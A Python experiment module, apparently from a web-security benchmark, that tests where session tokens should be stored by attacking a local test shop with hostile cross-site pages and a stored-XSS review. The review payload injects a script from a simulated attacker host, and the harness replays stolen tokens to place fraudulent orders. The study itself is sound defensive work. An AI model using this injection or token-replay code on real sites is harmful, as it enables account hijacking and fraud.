"""Where should the tokens live? Each place is attacked in a real browser: by a script in the page, and by other sites."""

from __future__ import annotations

import json
import statistics
import time
from collections.abc import Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import httpx

from propylon.agora.attacked import FILES
from propylon.agora.experiment import Contestant, Experiment, Prepare, Quantity, Reading, Study
from propylon.agora.plots import Bar, Bars, Cell, Matrix, Plot
from propylon.agora.results import Findings, Outcome, Variant, Verdict
from propylon.agora.said import Said
from propylon.agora.stage import Pages, Site, Stage, Visitor
from propylon.agora.stage.asking import ask
from propylon.agora.stage.sites import PASSWORD, expires_at

APP = "propylon.agora.attacked:application"
WITHIN_MS = 30_000
NO_END = float("inf")

CHOICES = {
    "bare": Said("cookie with no attribute, no check (naive)", "속성 없는 쿠키, 검사 없음(단순 구현)"),
    "open": Said(
        "cookie HttpOnly, SameSite=None, no check (naive)", "HttpOnly·SameSite=None 쿠키, 검사 없음(단순 구현)"
    ),
    "cookie": Said("cookie, as Propylon sets it", "Propylon의 쿠키"),
    "stored": Said("both tokens in localStorage", "토큰 둘 다 localStorage"),
    "claimed": Said(
        "refresh token in a cookie, access token in localStorage", "리프레시 토큰은 쿠키, 액세스 토큰은 localStorage"
    ),
    "memory": Said("both tokens in the page's memory", "토큰 둘 다 페이지 메모리"),
    "hybrid": Said("refresh token in a cookie, access token in memory", "리프레시 토큰은 쿠키, 액세스 토큰은 메모리"),
}
NAIVE = ("bare", "open")
SCRIPT = {
    "takes": Said("takes a credential away", "인증 정보를 빼냄"),
    "acts": Said("acts while the page is open", "페이지가 열린 동안 대신 행동"),
    "later": Said("acts from elsewhere, page closed", "페이지를 닫은 뒤 다른 곳에서 행동"),
    "stays": Said("stays in until the session ends", "세션이 끝날 때까지 머묾"),
}
HOSTILE = {
    "form": Said("form, POST", "폼 POST"),
    "fetch": Said("fetch with credentials, POST", "credentials를 담은 fetch POST"),
    "socket": Said("websocket", "웹소켓"),
    "image": Said("image, a GET that changes something", "이미지, 상태를 바꾸는 GET"),
    "link": Said("link, a GET that changes something", "링크, 상태를 바꾸는 GET"),
    "read": Said("answer read", "응답을 읽음"),
}
PLACES = {
    "script": Said("A script in the page (XSS)", "페이지에 끼어든 스크립트(XSS)"),
    "elsewhere": Said("A page of another site", "다른 사이트의 페이지"),
    "next_door": Said("A page of another origin on the same site", "같은 사이트, 다른 출처의 페이지"),
}
# What a form, a fetch or a websocket does without the app having made the mistake of changing something by GET.
FORGED = ("form", "fetch", "socket", "read")


@dataclass(frozen=True, slots=True)
class Scene:
    """The shop, the attacker's site, and a browser in which people shop."""

    site: Site
    attacker: Pages
    visitor: Visitor


def measure(study: Study) -> None:
    """Let somebody sign in and keep it in each place, and attack them."""
    seen: dict[str, dict[str, Any]] = {}
    with ExitStack() as stack:
        scenes: list[Scene] = []

        def attacking(choice: str) -> Prepare:
            def attack() -> Reading:
                if not scenes:
                    scenes.append(_scene(study.stage, stack))
                try:
                    return _attacked(scenes[0], choice, seen.setdefault(choice, {"succeeded": []}))
                except Exception:
                    # The browser may be gone, and the next place is not to suffer for it.
                    scenes.clear()
                    stack.close()
                    raise

            return lambda *_: attack

        contestants = [Contestant(choice, label, attacking(choice)) for choice, label in CHOICES.items()]
        study.compare(contestants, rounds=study.pick(1, 5), warm_up=False)
    for choice, facts in seen.items():
        study.note(choice, **facts)


def _scene(stage: Stage, stack: ExitStack) -> Scene:
    visitor = stack.enter_context(stage.lenient_visitor())
    attacker = stack.enter_context(stage.pages(FILES))
    site = stack.enter_context(stage.propylon({"password_profile": "unsafe_cheapest"}, app=APP))
    inject = f"s=document.createElement('script');s.src='{attacker.elsewhere}/injected.js';document.body.append(s)"
    ask("POST", f"{site.url}/reviews", content=f'Nice! <img src=x onerror="{inject}">').raise_for_status()
    for choice in CHOICES:
        site.sign_up(_email(choice))
    return Scene(site, attacker, visitor)


def _email(choice: str) -> str:
    return f"{choice}@example.com"


def _attacked(scene: Scene, choice: str, facts: dict[str, Any]) -> Reading:
    """Go through a visit, the attacks during it and after it; return how many had success, by where they came from."""
    scene.attacker.received.clear()
    before = len(_ledger(scene, choice))
    with scene.visitor.visit() as page:
        page.context.clear_cookies()
        _sign_in(scene, page, choice)
        for place in ("elsewhere", "next_door"):
            _visit(scene, page.context.new_page(), choice, place)
        page.bring_to_front()  # behind the pages of the attacker it is not drawn
        page.click("#reviews")
        _until(page, "robbed")
    succeeded, lasts_s = _what_it_brings(scene, choice)
    succeeded += _ledger(scene, choice)[before:]
    succeeded += [one.body for one in scene.attacker.received if one.path == "/read"]
    known = [f"{place}.{attack}" for place in PLACES for attack in (SCRIPT if place == "script" else HOSTILE)]
    facts["succeeded"] = [attack for attack in known if attack in {*facts["succeeded"], *succeeded}]
    by_place = {place: sum(f"{place}." in attack for attack in {*succeeded} & {*known}) for place in PLACES}
    return {**by_place, **({"works_for_s": lasts_s} if lasts_s < NO_END else {})}


def _until(page: Any, title: str) -> None:
    """Wait for the page to say that it is so far; raises with what it says instead."""
    page.wait_for_function(
        "title => document.title === title || document.title.startsWith('failed')", arg=title, timeout=WITHIN_MS
    )
    if page.title() != title:
        raise RuntimeError(page.title())


def _sign_in(scene: Scene, page: Any, choice: str) -> None:
    page.goto(f"{scene.site.url}/shop?choice={choice}")
    page.evaluate("localStorage.clear()")  # what the one before has left
    _until(page, "ready")
    page.fill("[name=email]", _email(choice))
    page.fill("[name=password]", PASSWORD)
    page.click("#sign-in button")
    _until(page, "signed in")


def _visit(scene: Scene, page: Any, choice: str, place: str) -> None:
    """Let the victim come by on a page of the attacker's, once for each way that leaves it and once for the others."""
    path = "/naive" if choice in NAIVE else ""
    hostile = f"{getattr(scene.attacker, place)}/hostile.html?shop={scene.site.url}&path={path}&from={place}&how="
    page.goto(f"{hostile}quietly")
    _until(page, "done")
    for how in ("form", "link"):
        with page.expect_navigation(url=f"{scene.site.url}/**", wait_until="commit", timeout=WITHIN_MS):
            page.goto(f"{hostile}{how}", wait_until="commit")


def _ledger(scene: Scene, choice: str) -> list[str]:
    ordered: list[str] = ask("GET", f"{scene.site.url}/ledger").json().get(_email(choice), [])
    return ordered


def _what_it_brings(scene: Scene, choice: str) -> tuple[list[str], float]:
    """Use what the script has sent home, from elsewhere; return what that achieved, and for how long it goes on."""
    taken = [json.loads(one.body) for one in scene.attacker.received if one.path == "/taken"]
    tried = [_naively(scene, one) if choice in NAIVE else _with_tokens(scene, one) for one in taken]
    works_for_s = max((lasts for lasts, _ in tried), default=0.0)
    stays = any(stays for _, stays in tried)
    achieved = {"script.takes": works_for_s > 0, "script.later": works_for_s > 0, "script.stays": stays}
    return [attack for attack, success in achieved.items() if success], works_for_s


def _naively(scene: Scene, taken: Mapping[str, Any]) -> tuple[float, bool]:
    headers = {"cookie": taken["cookie"]}
    let_in = ask("POST", f"{scene.site.url}/naive/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED
    return (NO_END, True) if let_in else (0.0, False)


def _with_tokens(scene: Scene, taken: Mapping[str, Any]) -> tuple[float, bool]:
    """Try refresh tokens first, which bring the rest; return how long it works, and whether it can be renewed."""
    for refresh_token in taken["refresh"]:
        renewed = ask("POST", f"{scene.site.url}/v1/session/tokens", json={"refresh_token": refresh_token})
        if renewed.status_code == httpx.codes.OK and _orders(scene, token := renewed.json()["access_token"]):
            return _left_of_session_s(scene, token), True
    lives = [expires_at(token) - time.time() for token in taken["access"] if _orders(scene, token)]
    return max(lives, default=0.0), False


def _orders(scene: Scene, token: str) -> bool:
    headers = {"authorization": f"Bearer {token}"}
    return ask("POST", f"{scene.site.url}/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED


def _left_of_session_s(scene: Scene, token: str) -> float:
    said = ask("GET", f"{scene.site.url}/v1/session", headers={"authorization": f"Bearer {token}"}).json()
    return datetime.fromisoformat(said["session"]["expires_at"]).timestamp() - time.time()


def judge(findings: Findings, noise: float) -> Sequence[Verdict]:  # noqa: ARG001 - nothing here is timed
    """Hold the claim against the attacks on the place that it names."""
    findings.figure("claimed", "script")  # or it stays open
    return [_withstands(findings), *_checks(findings), *_acting(findings)]


def _withstands(findings: Findings) -> Verdict:
    claimed = findings.variants["claimed"]
    forged = [
        attack for place in ("elsewhere", "next_door") for attack in HOSTILE if f"{place}.{attack}" in _of(claimed)
    ]
    by_script = [attack for attack in SCRIPT if f"script.{attack}" in _of(claimed)]
    outcome: Outcome = "does_not_hold" if forged else ("partly" if by_script else "holds")
    csrf, xss = _csrf(forged), _xss(by_script)
    said = Said(f"{csrf.en} {xss.en}", f"{csrf.ko} {xss.ko}")
    lasts = _span(claimed)
    return Verdict(0, outcome, said.filled(tried=2 * len(HOSTILE), forged=len(forged), lasts=lasts))


def _csrf(forged: Sequence[str]) -> Said:
    if forged:
        return Said(
            "CSRF is not withstood: {forged} of {tried} attacks by hostile pages had success.",
            "CSRF를 막지 못합니다. 적대적인 페이지의 공격 {tried}가지 중 {forged}가지가 성공했습니다.",
        )
    return Said(
        "CSRF is withstood: none of {tried} attacks by hostile pages had success.",
        "CSRF는 막습니다. 적대적인 페이지의 공격 {tried}가지가 모두 실패했습니다.",
    )


def _xss(by_script: Sequence[str]) -> Said:
    if not by_script:
        return Said("Nor had an injected script any success.", "끼어든 스크립트도 아무것도 해내지 못했습니다.")
    if "later" not in by_script:
        return Said(
            "XSS is not: an injected script acted while the page was open, and took nothing away that worked elsewhere.",
            "XSS는 막지 못합니다. 끼어든 스크립트가 페이지가 열린 동안 대신 행동했습니다. 다만 다른 곳에서 쓸 수 있는 것은 빼내지 못했습니다.",
        )
    return Said(
        "XSS is not: an injected script acted while the page was open, and what it took away worked elsewhere {lasts}.",
        "XSS는 막지 못합니다. 끼어든 스크립트가 페이지가 열린 동안 대신 행동했고, 빼낸 것은 다른 곳에서 {lasts} 통했습니다.",
    )


def _checks(findings: Findings) -> list[Verdict]:
    """Tell what the check of a cookie is worth, beside cookies without one."""
    if not all(_was_measured(findings, name) for name in ("open", "cookie")):
        return []
    without, by_us = (_forged(findings.variants[name]) for name in ("open", "cookie"))
    outcome: Outcome = "holds" if by_us < without else ("no_difference" if by_us == without else "does_not_hold")
    by_get = sum(
        _of(findings.variants["cookie"]).count(f"{place}.{how}") for place in PLACES for how in ("image", "link")
    )
    said = Said(
        "A cookie withstands CSRF where it is set and checked with care: of {tried} forged requests that no GET carries, {without} had "
        "success with SameSite=None and no check, {by_us} with SameSite=Lax and Fetch Metadata. A route of the app that changes "
        "something by GET stays open: {by_get} of 4 got through.",
        "쿠키도 설정과 검사를 제대로 하면 CSRF를 막습니다. GET이 아닌 위조 요청 {tried}가지 가운데 SameSite=None에 검사가 없으면 {without}가지, "
        "SameSite=Lax와 Fetch Metadata 검사가 있으면 {by_us}가지가 성공했습니다. 앱이 GET으로 상태를 바꾸면 열려 있습니다. 4가지 중 {by_get}가지가 "
        "통했습니다.",
    )
    return [Verdict(None, outcome, said.filled(tried=2 * len(FORGED), without=without, by_us=by_us, by_get=by_get))]


def _acting(findings: Findings) -> list[Verdict]:
    """Tell what an injected script can do wherever things are kept."""
    measured = [variant for variant in findings.variants.values() if variant.figures]
    acted = [variant for variant in measured if "script.acts" in _of(variant)]
    stayed = [variant for variant in measured if "script.stays" in _of(variant)]
    said = Said(
        "No place keeps an injected script from acting while the page is open: it did in {acted} of {places}. What differs is how long "
        "it goes on afterwards: until the session ends in {stayed} of {places} ({names}).",
        "어디에 두든 끼어든 스크립트는 페이지가 열린 동안 대신 행동합니다. {places}곳 중 {acted}곳에서 그랬습니다. 다른 것은 그 뒤입니다. 세션이 끝날 때까지 "
        "이어진 곳은 {places}곳 중 {stayed}곳입니다({names}).",
    )
    names = Said(
        "; ".join(one.label.en for one in stayed) or "none", "; ".join(one.label.ko for one in stayed) or "없음"
    )
    outcome: Outcome = "holds" if len(acted) == len(measured) else "partly"
    facts = {"acted": len(acted), "places": len(measured), "stayed": len(stayed), "names": names}
    return [Verdict(None, outcome, said.filled(**facts))]


def _of(variant: Variant) -> list[str]:
    return list(variant.facts.get("succeeded", []))


def _forged(variant: Variant) -> int:
    return sum(f"{place}.{attack}" in _of(variant) for place in ("elsewhere", "next_door") for attack in FORGED)


def _was_measured(findings: Findings, name: str) -> bool:
    return name in findings.variants and bool(findings.variants[name].figures)


def _span(variant: Variant) -> Said:
    """Return how long what was taken works, in words."""
    if "script.stays" in _of(variant):
        return Said("until the session ends", "세션이 끝날 때까지")
    lasts_s = variant.figures["works_for_s"].median if "works_for_s" in variant.figures else 0.0
    return Said("for {minutes:.0f} min", "{minutes:.0f}분 동안").filled(minutes=lasts_s / 60)


def plots(findings: Findings) -> Sequence[Plot]:
    """Show what had success, from where."""
    attacked = [variant for variant in findings.measured() if variant.figures]
    matrices = [_matrix(attacked, place, title) for place, title in PLACES.items()]
    title = Said("Attacks by hostile pages that had success", "성공한 적대적인 페이지의 공격")
    axis = Said("attacks, of {all}", "공격, {all}가지 중").filled(all=2 * len(HOSTILE))
    return [*matrices, Bars(title, axis, tuple(_hostile_bar(variant) for variant in attacked))]


def _hostile_bar(variant: Variant) -> Bar:
    both = [
        sum(pair) for pair in zip(*(variant.figures[place].values for place in ("elsewhere", "next_door")), strict=True)
    ]
    return Bar(variant.label, statistics.median(both), min(both), max(both))


def _matrix(attacked: Sequence[Variant], place: str, title: Said) -> Matrix:
    attacks = SCRIPT if place == "script" else HOSTILE
    rows = tuple((one.label, tuple(_cell(one, f"{place}.{attack}") for attack in attacks)) for one in attacked)
    return Matrix(title, Said("where it is kept", "두는 곳"), tuple(attacks.values()), rows)


def _cell(variant: Variant, attack: str) -> Cell:
    if attack not in _of(variant):
        return Cell(Said("no", "실패"), good=True)
    if attack != "script.later":
        return Cell(Said("yes", "성공"), good=False)
    return Cell(Said("yes, {span}", "성공, {span}").filled(span=_span(variant)), good=False)


EXPERIMENT = Experiment(
    name="storage",
    rows=("Q8",),
    question=Said("Where should the tokens live?", "토큰은 어디에 두는 것이 좋은가?"),
    claims=(
        Said(
            "A: refresh token in a cookie, access token in the page's storage: that withstands CSRF and more.",
            "A: 리프레시 토큰은 쿠키에, 액세스 토큰은 브라우저 저장소에 두면 CSRF 같은 공격을 막는다.",
        ),
    ),
    method=Said(
        "In a real Chromium somebody signs in to a shop by its page and keeps what that gives in one of seven places; then they come "
        "by on a page of another site and of another origin on the same site, and at last a review that another visitor wrote brings a "
        "script into the page. An attack has had success when an order is in the shop's ledger, or when what arrived at the "
        "attacker's server opens the door from elsewhere. The browser lets third-party cookies through, so that what stops an attack "
        "is the shop and not the browser's settings.",
        "실제 Chromium에서 가게 페이지로 로그인하고, 받은 것을 일곱 곳 중 한 곳에 둡니다. 그런 다음 다른 사이트의 페이지와 같은 사이트 다른 출처의 페이지에 "
        "들르고, 마지막으로 다른 방문자가 쓴 후기가 페이지에 스크립트를 끼워 넣습니다. 가게 장부에 주문이 남거나, 공격자 서버에 도착한 것이 다른 곳에서 통하면 "
        "공격이 성공한 것입니다. 공격을 막는 것이 브라우저 설정이 아니라 가게가 되도록, 브라우저는 서드파티 쿠키를 막지 않게 해 두었습니다.",
    ),
    would_change=Said(
        "A browser that withholds third-party cookies stops image, fetch and websocket of another site even with SameSite=None. A cookie "
        "without SameSite goes along with a form for its first two minutes in Chromium, and not later. A content security policy may "
        "keep the script out altogether.",
        "서드파티 쿠키를 막는 브라우저라면 SameSite=None이어도 다른 사이트의 이미지, fetch, 웹소켓이 실패합니다. SameSite가 없는 쿠키는 Chromium에서 "
        "처음 2분 동안만 폼에 실립니다. 콘텐츠 보안 정책(CSP)이 있으면 스크립트가 아예 끼어들지 못할 수 있습니다.",
    ),
    quantities={
        "script": Quantity(Said("successes of the script, of 4", "스크립트의 성공, 4가지 중"), "", "less"),
        "elsewhere": Quantity(Said("successes of another site, of 6", "다른 사이트의 성공, 6가지 중"), "", "less"),
        "next_door": Quantity(
            Said("successes of another origin, of 6", "같은 사이트 다른 출처의 성공, 6가지 중"), "", "less"
        ),
        "works_for_s": Quantity(Said("what was taken works for", "빼낸 것이 통하는 시간"), "s", "less"),
    },
    takes_s={"quick": 12, "full": 52},
    measure=measure,
    judge=judge,
    plots=plots,
)
